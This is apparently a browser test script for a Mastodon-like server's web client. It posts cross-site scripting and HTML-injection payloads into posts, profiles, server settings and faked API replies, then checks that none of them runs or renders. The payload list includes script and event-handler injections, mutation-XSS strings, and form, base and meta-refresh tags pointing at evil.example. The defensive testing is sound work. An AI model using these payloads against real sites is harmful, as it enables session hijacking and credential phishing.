// What people type is text wherever it shows: posts, warnings, names, bios, fields, links, hashtags; and what is said of the server itself.
// Usage: node hostile.mjs URL, of a server that nobody has joined yet
import assert from "node:assert/strict";
import { enter, Person, settled, unique, visitor, withBrowser } from "./harness.mjs";

const url = process.argv[2];
const kStepsMax = 15; // of a window each: the hostile posts are the newest ones
const hostile = [
  `<script>window.owned = 1</script>`,
  `<img src=x onerror="window.owned = 1">`,
  `<svg onload=window.owned=1><style>*{display:none}</style>`,
  `"><iframe srcdoc="<script>parent.owned=1</script>"></iframe>`,
  `' onmouseover='window.owned=1`,
  `javascript:window.owned=1`,
  `[click](javascript:window.owned=1) <a href="javascript:window.owned=1">x</a>`,
  `https://example.com/"onclick="window.owned=1`,
  `https://example.com/<script>window.owned=1</script>`,
  `&lt;script&gt;window.owned = 1&lt;/script&gt; &#60;b&#62;`,
  `{{constructor.constructor('window.owned=1')()}} \${window.owned=1} {@html 1}`,
  `<template><b></template><math><mtext><table><mglyph><style><img src onerror=window.owned=1>`,
  `<form action="https://evil.example"><input name=password></form><base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<p style="position:fixed;inset:0">cover</p><link rel=stylesheet href=https://evil.example/x.css>`,
  `\u202Eevil\u202C \u0001 \uFEFF <b\u0008old>`,
];

await withBrowser(async (browser) => {
  const eve = await Person.join(url, unique("eve"));
  const joe = await Person.join(url, unique("joe"));
  const eveId = (await eve.me()).id;
  await joe.post(`/api/v1/accounts/${eveId}/follow`);
  await eve.patch("/api/v1/accounts/update_credentials", {
    display_name: hostile[1].slice(0, 30),
    note: hostile.slice(0, 6).join("\n").slice(0, 490),
    fields_attributes: [
      { name: hostile[0].slice(0, 40), value: hostile[1] },
      { name: hostile[4], value: "https://example.com/\"onclick=\"window.owned=1" },
    ],
  });
  const posts = [];
  for (const text of hostile) {
    posts.push(await eve.toot(`${text} #${unique("tag")}`));
    posts.push(await eve.toot(`@${joe.name} ${text}`, { spoiler_text: text }));
  }
  await eve.post(`/api/v1/statuses/${(await joe.toot(hostile[0])).id}/favourite`);

  const one = await visitor(browser, url, { session: joe.session });
  const { page } = one;
  const isClean = async (where) => {
    const found = await page.evaluate(() => ({
      owned: "owned" in window,
      scripts: [...document.scripts].filter((script) => !script.src.startsWith(`${location.origin}/app/`)).length,
      made: document.querySelectorAll("main iframe, main script, main style, main base, main meta, main form[action], main math, main template, main object, main embed").length,
      handlers: [...document.querySelectorAll("*")].filter((element) => element.getAttributeNames().some((name) => name.startsWith("on"))).length,
      images: [...document.images].filter((image) => new URL(image.src).origin !== location.origin || !/^\/(avatars|headers)\//.test(new URL(image.src).pathname)).length,
      links: [...document.links].filter((link) => !["http:", "https:"].includes(link.protocol)).map((link) => link.href),
      styled: [...document.querySelectorAll(".content [style]")].length,
    }));
    assert.deepEqual(found, { owned: false, scripts: 0, made: 0, handlers: 0, images: 0, links: [], styled: 0 }, where);
  };
  // Down past all that is hostile, with everything opened that is behind a warning: far rows are not in the page at once.
  const readAll = async (where) => {
    for (let step = 0; step < kStepsMax; ++step) {
      await settled(page);
      const isEnd = await page.evaluate(() => {
        for (const button of document.querySelectorAll("main button")) if (button.textContent === "Show") button.click();
        const isEnd = scrollY + innerHeight >= document.documentElement.scrollHeight - 2;
        scrollBy(0, innerHeight * 0.8);
        return isEnd;
      });
      await isClean(where);
      if (isEnd) return;
    }
  };

  for (const path of ["/", "/local", "/notifications", `/@${eve.name}`, `/@${eve.name}/with_replies`, `/@${eve.name}/${posts[0].id}`, "/search?q=" + encodeURIComponent(hostile[0]), `/search?q=${eve.name}`]) {
    await page.goto(url + path);
    await page.locator("nav[aria-label=Main]").waitFor();
    await page.getByRole("heading", { level: 1 }).waitFor();
    await readAll(path);
  }

  // It is there, as text: what was typed is what is read.
  await page.goto(`${url}/@${eve.name}/${posts[2].id}`);
  await page.getByRole("heading", { level: 1, name: "Post" }).waitFor();
  await page.locator(".post.focus .content").waitFor();
  assert.ok((await page.locator(".post.focus .content").innerText()).includes(hostile[1]));
  await page.goto(`${url}/@${eve.name}`);
  await page.getByRole("heading", { level: 1, name: hostile[1].slice(0, 30) }).waitFor();

  // Text from the right to the left is shown so.
  const arabic = await eve.toot("مرحبا بالعالم، هذا نص عربي");
  await page.goto(`${url}/@${eve.name}/${arabic.id}`);
  await page.getByRole("heading", { level: 1, name: "Post" }).waitFor();
  await page.locator(".post.focus .content").waitFor();
  assert.equal(await page.locator(".post.focus .content").evaluate((element) => getComputedStyle(element).direction), "rtl");

  // Also behind a name from the left to the right.
  const answer = await eve.toot(`@${joe.name} مرحبا`, { in_reply_to_id: arabic.id });
  await page.goto(`${url}/@${eve.name}/${answer.id}`);
  await page.locator(".post.focus .content").waitFor();
  const free = await page.locator(".post.focus .content p").evaluate((paragraph) => {
    const range = document.createRange();
    range.selectNodeContents(paragraph);
    const [words, box] = [range.getBoundingClientRect(), paragraph.getBoundingClientRect()];
    return { left: words.left - box.left, right: box.right - words.right };
  });
  assert.ok(free.right < 2 && free.left > 50, JSON.stringify(free));

  // A server that is not ours, or was broken into, could send anything: nothing but text and links comes of it. That the policy would have
  // stopped the rest as well is what Chromium tells while it reads the text into a document that is never shown.
  one.expect(/policy/i);
  await page.route("**/api/v1/timelines/home*", async (route) => {
    const answer = await route.fetch();
    const list = await answer.json();
    for (const [at, post] of list.entries()) {
      post.content = hostile[at % hostile.length] + '<p><a href="javascript:window.owned=1" onclick="window.owned=1" style="color:red" class="mention evil">x</a></p>';
      post.account.display_name = hostile[1];
      post.account.note = hostile[1];
    }
    await route.fulfill({ response: answer, json: list });
  });
  await page.goto(url);
  await page.locator("article.post").first().waitFor();
  await readAll("a hostile server");
  assert.equal(await page.locator("article.post .content .evil").count(), 0);

  // The server's name, description, rules and why nobody may join, as its owner writes them.
  const three = await visitor(browser, url, { session: eve.session });
  await enter(three.page, eve);
  await three.page.goto(`${url}/admin/settings`);
  await three.page.getByLabel("Name", { exact: true }).fill(hostile[1]);
  await three.page.getByLabel("Description").fill(hostile.join("\n\n"));
  await three.page.getByLabel("Rules").fill(hostile.join("\n"));
  await three.page.getByLabel("Why nobody may join").fill(hostile.slice(0, 6).join("\n\n"));
  await three.page.getByRole("button", { name: "Save" }).click();
  await three.page.getByText("Saved.").waitFor();
  assert.equal(await three.page.getByLabel("Name", { exact: true }).inputValue(), hostile[1]);

  // The server's own pages, for everybody.
  const two = await visitor(browser, url);
  const isPlain = async (page, path) => {
    await page.goto(url + path);
    assert.equal(await page.evaluate(() => "owned" in window), false, path);
    assert.equal(await page.locator("main iframe, main script, main style, main img:not(.avatar), header img").count(), 0, path);
  };
  for (const path of [`/@${eve.name}`, `/@${eve.name}/${posts[2].id}`, "/", "/auth/sign_up", "/auth/sign_in", "/auth/sign_out"]) await isPlain(two.page, path);
  await two.page.goto(`${url}/auth/sign_up`);
  await two.page.getByRole("listitem").filter({ hasText: hostile[0] }).first().waitFor();
  for (const path of ["/admin/settings", "/admin/accounts"]) await isPlain(three.page, path);
  await page.goto(url);
  await page.getByRole("link", { name: hostile[1], exact: true }).waitFor();
  await isClean("the server's name in the app");
  await three.page.goto(`${url}/admin/settings`);
  await three.page.getByLabel("Nobody may join", { exact: true }).check();
  await three.page.getByRole("button", { name: "Save" }).click();
  await three.page.getByText("Saved.").waitFor();
  two.expect(/status of 403/);
  await isPlain(two.page, "/auth/sign_up");
  await two.page.getByText(hostile[0]).waitFor();
  one.check();
  two.check();
  three.check();
});
